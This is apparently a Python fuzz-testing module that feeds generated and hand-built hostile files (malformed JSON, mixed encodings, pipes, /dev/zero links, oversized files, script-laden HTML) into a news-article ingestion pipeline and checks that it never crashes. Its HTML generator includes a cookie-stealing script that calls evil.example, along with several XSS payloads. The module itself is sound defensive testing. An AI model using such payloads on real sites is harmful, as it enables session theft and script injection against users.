"""Hostile input: generated files and JSON records (empty, binary, huge, invalid and mixed encodings, deep or
broken JSON, HTML with scripts, iframes and megabyte-long lines) through ingestion, plus a fixed corpus of
nastier cases (a pipe, /dev/zero, a non-UTF-8 file name, a 17 MB file) indexed for real. No exception may
escape, every file ends as articles or rejections (never silently dropped), every rejection has a reason,
every article has text that SQLite can store and that chunks exactly.

    python -m stress.fuzz --files 3000 --records 2000
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import sys
import tempfile
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st

import qa
from qa.indexing.chunk import chunk_article
from qa.schema import Article, Rejection
from qa.settings import Settings
from qa.sources.ingest import iter_articles
from qa.store import faiss_store
from stress.common import print_table

WORDS = (
    "the council harbour bridge opened on monday after years of debate residents said fire spread quickly "
    "officials expect nine thousand people every day minister promised new funds market closed early"
).split()
FIELDS = "text body content article title headline url link id doc_id date published source articles items".split()
CHUNK_CHECK_MAX = 100_000  # articles up to this length are also chunked (chunking 1 MB of prose takes ~15 s)

# -- strategies ------------------------------------------------------------------------------------------------
# Any code point, lone surrogates and markup/control characters made likely.
wild_char = st.one_of(st.characters(), st.characters(categories=["Cs"]), st.sampled_from("<>&[]#*\x00\r\n\u202e\ufeff"))
any_char_text = st.text(wild_char, max_size=300)
sentence = st.lists(st.sampled_from(WORDS), min_size=3, max_size=16).map(lambda w: " ".join(w).capitalize() + ".")
prose = st.lists(sentence, min_size=1, max_size=10).map(" ".join)
long_line = st.tuples(sentence, st.sampled_from([50, 1_000, 10_000])).map(lambda t: " ".join([t[0]] * t[1])[:1_100_000])
html_part = st.one_of(
    prose.map(lambda s: f"<p>{s}</p>"),
    prose.map(lambda s: f"<script>document.write('{s}'); fetch('http://evil.example/?c=' + document.cookie)</script>"),
    prose.map(lambda s: f'<iframe src="http://evil.example/" srcdoc="<p>{s}</p>">{s}</iframe>'),
    prose.map(lambda s: f"<style>body {{ display: none }}</style><noscript>{s}</noscript>"),
    prose.map(lambda s: f"<!-- {s} --><![CDATA[{s}]]>"),
    st.integers(1, 5_000).map(lambda depth: "<div>" * depth),  # deep, never closed
    st.sampled_from(["</p></div></body>", "<p", "<<>>", "&#0;", "&#xD800;", "&#x1F600;", "&nbsp;", "\x00", "\ufeff"]),
    st.sampled_from(['<img src=x onerror="alert(1)">', '<a href="javascript:alert(1)">x</a>', "<svg onload=alert(1)>"]),
    any_char_text,
)
html_doc = st.tuples(st.booleans(), st.lists(html_part, max_size=12), st.one_of(st.just(""), long_line)).map(
    lambda t: ("<html><head><title>Harbour news</title></head><body>" if t[0] else "") + "".join(t[1]) + t[2]
)  # with one line of up to 1.1 MB in some
scalar = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), any_char_text, prose)
json_value = st.recursive(
    scalar,
    lambda kids: (
        st.lists(kids, max_size=4) | st.dictionaries(st.sampled_from(FIELDS) | any_char_text, kids, max_size=5)
    ),
    max_leaves=20,
)
text_value = st.one_of(prose, html_doc, any_char_text, st.integers(), st.just(""), st.just("   "), json_value)
record = st.fixed_dictionaries(
    {},
    optional={
        "text": text_value,
        "title": st.one_of(sentence, any_char_text, st.integers()),
        "url": st.one_of(st.just("https://news.example/a"), any_char_text),
        "published": st.one_of(
            st.just("2024-02-30"),
            st.just("Mon, 01 Jan 2024 10:00:00 GMT"),
            any_char_text,
            st.integers(),
            st.floats(allow_nan=True),
        ),
        "source": any_char_text,
        "doc_id": st.one_of(any_char_text, st.integers()),
    },
)
records = st.lists(st.one_of(record, record, json_value), max_size=8)
json_doc = st.one_of(
    record,
    records,
    st.builds(lambda key, recs: {key: recs}, st.sampled_from(["articles", "items", "records", "data"]), records),
    json_value,
)


def _dump(value: object, ascii_only: bool) -> bytes:
    """JSON text; with ascii_only a lone surrogate becomes a \\ud800 escape, else invalid UTF-8 bytes."""
    return json.dumps(value, ensure_ascii=ascii_only, allow_nan=True).encode("utf-8", "surrogatepass")


broken_json = st.one_of(
    st.tuples(json_doc, st.integers(0, 200)).map(lambda t: _dump(t[0], True)[: t[1]]),  # truncated
    st.integers(1, 200_000).map(lambda d: b"[" * d),  # deep, unclosed
    st.integers(1, 200_000).map(lambda d: b"[" * d + b"]" * d),  # deep, valid
    st.integers(1, 50_000).map(lambda d: b'{"text": ' * d + b'"x"' + b"}" * d),
    st.integers(4_301, 6_000).map(lambda d: b'{"text": ' + b"7" * d + b"}"),  # beyond Python's int digits limit
    st.sampled_from([b'{"text": NaN}', b"{'text': 'single'}", b'{"text": "a",}', b"\xef\xbb\xbf{}", b"null", b"[]"]),
)
json_file = st.one_of(st.tuples(json_doc, st.booleans()).map(lambda t: _dump(*t)), broken_json)
jsonl_file = st.lists(
    st.one_of(st.tuples(st.one_of(record, json_value), st.booleans()).map(lambda t: _dump(*t)), broken_json),
    max_size=8,
).map(b"\n".join)
encoding = st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "latin-1", "cp1252"])


def _encode(text: str, enc: str) -> bytes:
    return text.encode(enc, "surrogatepass" if enc.startswith("utf") else "replace")


plain_text = st.tuples(st.one_of(sentence, any_char_text), st.one_of(prose, any_char_text, long_line)).map(
    lambda t: f"{t[0]}\n\n{t[1]}"
)
mixed_bytes = st.lists(st.tuples(st.one_of(prose, any_char_text), encoding), min_size=1, max_size=4).map(
    lambda parts: b"".join(_encode(text, enc) for text, enc in parts)
)
junk = st.one_of(
    st.binary(max_size=4096),
    st.binary(max_size=512).map(lambda b: b"\x89PNG\r\n\x1a\n\x00" + b),
    st.sampled_from([b"", b" ", b"\n\n\t \r\n", b"\xff\xfe", b"\xfe\xff\x00", b"\xef\xbb\xbf"]),
    mixed_bytes,
)
SUFFIX = {"text": [".txt", ".md"], "html": [".html", ".htm"], "json": [".json"], "jsonl": [".jsonl", ".ndjson"]}
file_case = st.one_of(
    st.tuples(st.sampled_from(SUFFIX["text"]), st.tuples(plain_text, encoding).map(lambda t: _encode(*t))),
    st.tuples(st.sampled_from(SUFFIX["html"]), st.tuples(html_doc, encoding).map(lambda t: _encode(*t))),
    st.tuples(st.sampled_from(SUFFIX["json"]), json_file),
    st.tuples(st.sampled_from(SUFFIX["jsonl"]), jsonl_file),
    st.tuples(st.sampled_from([s for group in SUFFIX.values() for s in group]), junk),
).flatmap(lambda case: st.tuples(st.just(case[0]), st.just(case[1]), st.sampled_from([None, "tight"])))


# -- the properties --------------------------------------------------------------------------------------------
def check_items(items: list[Article | Rejection], tally: Counter) -> None:
    """Articles with storable, chunkable text; rejections with a reason."""
    for item in items:
        if isinstance(item, Article):
            tally["articles"] += 1
            assert item.text.strip() and item.id and item.content_hash, item
            for value in (item.id, item.title, item.text, item.source, item.url, item.published, item.origin):
                value.encode("utf-8")  # SQLite stores UTF-8: a lone surrogate would fail the whole commit
            if len(item.text) <= CHUNK_CHECK_MAX:
                chunks = chunk_article(item)
                assert chunks and all(c.text == item.text[c.start : c.end] and c.text.strip() for c in chunks)
        else:
            assert isinstance(item, Rejection), f"neither an Article nor a Rejection: {item!r}"
            assert isinstance(item.reason, str) and item.reason.strip(), f"a rejection without a reason: {item}"
            item.source.encode("utf-8")
            tally["rejections"] += 1
            tally[f"rejected: {reason_kind(item.reason)}"] += 1


def reason_kind(reason: str) -> str:
    """The reason without its particulars (for the table)."""
    return re.sub(r"(?<![-\w])\d+(\.\d+)?", "N", re.split(r"[:(]", reason, maxsplit=1)[0]).strip().replace("'", "")


def check_file(suffix: str, data: bytes, limit: str | None, tally: Counter) -> None:
    """One generated file through `iter_articles`: no exception, at least one item, the item properties."""
    max_bytes = max(1, len(data) - 1) if limit == "tight" else 20_000_000  # "tight": one byte too big
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / f"input{suffix}").write_bytes(data)
        items = list(iter_articles([tmp], max_bytes))
    tally["files"] += 1
    tally["bytes"] += len(data)
    tally["largest file"] = max(tally["largest file"], len(data))
    assert items, f"a {suffix} file of {len(data)} bytes vanished without an article or a rejection"
    check_items(items, tally)


def check_records(recs: list, jsonl: bool, tally: Counter) -> None:
    """JSON records as a .json list or .jsonl lines: exactly one article or rejection per record."""
    lines = [json.dumps(r, ensure_ascii=True, allow_nan=True) for r in recs]
    data = "\n".join(lines) if jsonl else json.dumps(recs, ensure_ascii=True, allow_nan=True)
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / ("records.jsonl" if jsonl else "records.json")).write_text(data, encoding="utf-8")
        items = list(iter_articles([tmp], 20_000_000))
    tally["records"] += len(recs)
    assert len(items) == max(1, len(recs)), f"{len(recs)} records gave {len(items)} articles and rejections"
    check_items(items, tally)


@dataclass
class FuzzResult:
    tally: Counter = field(default_factory=Counter)
    hostile: dict[str, str] = field(default_factory=dict)
    indexed: str = ""
    seconds: float = 0.0
    failures: list[str] = field(default_factory=list)

    def rows(self) -> list[tuple[str, object]]:
        t = self.tally
        kinds = sorted(((k, v) for k, v in t.items() if k.startswith("rejected: ")), key=lambda kv: -kv[1])
        return [
            ("generated files (hypothesis examples)", t["files"]),
            ("generated JSON records", t["records"]),
            ("bytes generated / largest file", f"{t['bytes']:,} / {t['largest file']:,}"),
            ("articles / rejections", f"{t['articles']} / {t['rejections']}"),
            *[(f"  {k}", v) for k, v in kinds[:12]],
            (
                "fixed hostile files as expected",
                f"{sum(v == 'ok' for v in self.hostile.values())} / {len(self.hostile)}",
            ),
            ("mixed batch indexed", self.indexed),
            ("crashes (exceptions escaping)", sum("Error" in f.split(":")[0] for f in self.failures)),
            ("wall time (s)", f"{self.seconds:.0f}"),
            ("failures", len(self.failures)),
        ]


def _failure(where: str, exc: BaseException) -> str:
    notes = "\n".join(getattr(exc, "__notes__", []))  # hypothesis puts the falsifying example here
    return f"{where}: {type(exc).__name__}: {exc}\n{notes}".strip()


def run_fuzz(files: int, recs: int, seed_value: int = 0) -> FuzzResult:
    """`files` generated files and `recs` generated record lists through ingestion (bounded by the counts)."""
    result = FuzzResult()
    started = time.monotonic()
    common = {"deadline": None, "database": None, "suppress_health_check": list(HealthCheck), "print_blob": True}

    @seed(seed_value)
    @settings(max_examples=files, **common)
    @given(file_case)
    def fuzz_files(case: tuple[str, bytes, str | None]) -> None:
        check_file(*case, result.tally)

    @seed(seed_value)
    @settings(max_examples=recs, **common)
    @given(records, st.booleans())
    def fuzz_records(recs_: list, jsonl: bool) -> None:
        check_records(recs_, jsonl, result.tally)

    for name, test in (("files", fuzz_files), ("records", fuzz_records)):
        try:
            test()
        except Exception as exc:  # a crash or a broken property, with hypothesis' minimal example
            result.failures.append(_failure(f"fuzzing {name}", exc))
    result.seconds = time.monotonic() - started
    return result


# -- the fixed hostile corpus, indexed for real ------------------------------------------------------------------
GOOD = {
    "good.txt": ("Tarnholm Opens Glass Footbridge", "The footbridge across the Vell estuary is 412 metres long."),
    "good.md": ("# Valmora Library Reopens", "The Valmora library reopened with 40,000 books after the flood."),
}


def write_hostile(folder: Path) -> dict[str, str]:
    """Nasty files next to good ones; returns {file name: 'article' or the expected rejection reason part}."""
    folder.mkdir(parents=True, exist_ok=True)
    expect: dict[str, str] = {}

    def put(name: str, data: bytes | str, outcome: str) -> None:
        (folder / name).write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)
        expect[name] = outcome

    for name, (title, text) in GOOD.items():
        put(name, f"{title}\n\n{text}\n", "article")
    put(
        "good.json",
        json.dumps({"title": "Norby Ferry Returns", "text": "The Norby ferry sails again daily."}),
        "article",
    )
    put(
        "good.jsonl", json.dumps({"doc_id": "k1", "title": "Kestrel Bay Pier", "text": "The pier reopened."}), "article"
    )
    put("empty.txt", b"", "empty file")
    put("blank.md", b" \n\t\r\n ", "empty file")
    put("binary.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "binary file")
    put("latin1.txt", "Café Report\n\nThe café in Marisport reopened.".encode("latin-1"), "not valid UTF-8")
    put("mixed.md", b"Tram Fares\n\nFares rose " + "to 3 crowns, the café said.".encode("cp1252"), "UTF-8")
    put("utf16.txt", "Caldera Springs Rain\n\nHeavy rain ended the Caldera Springs fire.".encode("utf-16"), "article")
    put("broken-utf16.txt", b"\xff\xfe" + b"\x00\xd8a", "broken UTF-16")
    put("deep.json", b"[" * 100_000 + b"]" * 100_000, "nested too deeply")
    put("unclosed.json", b"[" * 100_000, "malformed JSON")
    put("bigint.json", b'{"text": ' + b"9" * 5_000 + b"}", "malformed JSON")
    put(
        "surrogate.json",
        json.dumps({"title": "Market \ud800Day", "text": "The market \udfffopened at dawn."}),
        "article",
    )
    put("truncated.json", b'{"title": "Half", "text": "The half', "malformed JSON")
    put(
        "lines.jsonl",
        "\n".join(
            [
                json.dumps({"text": "The stadium roof was finished in March."}),
                "{broken",
                "[1, 2]",
                '{"text": ' + "1" * 5_000 + "}",
                "[" * 50_000,
            ]
        ),
        "article",
    )
    scripts = "<script>alert('PWNED')</script><iframe src='http://evil.example'></iframe>"
    park = "The Ashford council approved a new park with two hundred trees and a pond on Friday."
    put("scripts.html", f"<html><body>{scripts}<article><p>{park}</p></article>{scripts}</body></html>", "article")
    put("only-scripts.html", f"<html><body>{scripts * 50}</body></html>", "no article text")
    put("nested.html", "<div>" * 30_000 + "The harbour opened. " * 20 + "</div>" * 30_000, "than any article page")
    line = "<p>" + "The harbour bridge opened after years of debate in the council. " * 16_500 + "</p>"
    put("line-1mb.html", f"<html><body><article>{line}</article></body></html>", "article")
    put("page.exe", b"MZ\x90\x00", "unsupported file type")
    with open(folder / "huge.txt", "wb") as fh:  # 17 MB (sparse): refused by size before it is read
        fh.truncate(17_000_000)
    expect["huge.txt"] = "over the 16 MB limit"
    os.mkfifo(folder / "pipe.txt")  # reading a pipe would block forever
    expect["pipe.txt"] = "not a regular file"
    (folder / "zero.txt").symlink_to("/dev/zero")  # out of the folder: not followed (reading it would never end)
    expect["zero.txt"] = "not followed"
    with open(os.path.join(os.fsencode(folder), b"caf\xe9-latin1-name.txt"), "wb") as fh:
        fh.write(b"Name Test\n\nThis file has a name that is not UTF-8.")
    expect["caf\\udce9-latin1-name.txt"] = "file name is not valid UTF-8"
    return expect


def check_hostile(folder: Path, expect: dict[str, str], max_bytes: int = 16_000_000) -> dict[str, str]:
    """Each expected file's outcome: 'ok' or what went differently."""
    outcome: dict[str, list[str]] = {}
    for item in iter_articles([folder], max_bytes):
        where = item.origin if isinstance(item, Article) else item.source
        name = next((n for n in expect if where.endswith(f"/{n}") or f"/{n}:" in where or f"/{n}#" in where), where)
        outcome.setdefault(name, []).append("article" if isinstance(item, Article) else item.reason)
    found = {}
    for name, want in expect.items():
        got = outcome.get(name, [])
        found[name] = "ok" if any(want in g for g in got) else f"expected {want!r}, got {got}"
    return found


def run_hostile(workdir: Path, big: bool = False) -> FuzzResult:
    """The fixed hostile corpus through iter_articles, then indexed with qa.Assistant.index."""
    result = FuzzResult()
    started = time.monotonic()
    folder = workdir / "hostile"
    expect = write_hostile(folder)
    result.hostile = check_hostile(folder, expect)
    result.failures += [f"{name}: {why}" for name, why in result.hostile.items() if why != "ok"]
    if not big:  # chunking and embedding 1 MB of prose takes minutes here: read above, indexed in the full run
        (folder / "line-1mb.html").unlink()
    try:
        assistant = qa.Assistant(Settings(index_dir=workdir / "index", backend="extractive"))
        report = assistant.index([folder])
        titles = {r[0] for r in assistant.store().connection().execute("SELECT title FROM articles")}
        want = {t.lstrip("# ") for t, _ in GOOD.values()} | {"Norby Ferry Returns", "Kestrel Bay Pier", "Market Day"}
        problems = faiss_store(workdir / "index").check()
        if not want <= titles or problems or any(not r.reason.strip() for r in report.rejected):
            result.failures.append(f"indexing the batch: missing {sorted(want - titles)}, check {problems}")
        result.indexed = f"{len(titles)} articles, {len(report.rejected)} rejected with reasons, check ok"
    except Exception as exc:  # indexing must survive the batch
        result.failures.append(_failure("indexing the hostile batch", exc))
    result.seconds = time.monotonic() - started
    return result


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--files", type=int, default=3000, help="generated files")
    parser.add_argument("--records", type=int, default=2000, help="generated lists of JSON records")
    parser.add_argument("--seed", type=int, default=0)
    args = parser.parse_args(argv)
    workdir = Path(tempfile.mkdtemp(prefix="stress-fuzz-"))
    try:
        result = run_fuzz(args.files, args.records, args.seed)
        hostile = run_hostile(workdir, big=True)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
    result.hostile, result.indexed = hostile.hostile, hostile.indexed
    result.failures += hostile.failures
    result.seconds += hostile.seconds
    print_table("Hostile input: generated files and records through ingestion", result.rows())
    for failure in result.failures[:20]:
        print(f"FAIL {failure}")
    return 1 if result.failures else 0


if __name__ == "__main__":
    sys.exit(main())
